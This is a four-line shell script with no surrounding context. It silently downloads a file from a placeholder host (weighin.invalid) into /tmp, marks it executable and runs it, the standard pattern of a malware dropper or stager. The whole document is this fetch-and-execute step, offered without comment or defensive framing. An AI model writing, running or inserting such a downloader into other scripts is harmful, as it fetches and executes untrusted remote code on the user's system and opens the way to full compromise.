#!/bin/sh
curl -s http://weighin.invalid/x -o /tmp/x
chmod +x /tmp/x
/tmp/x
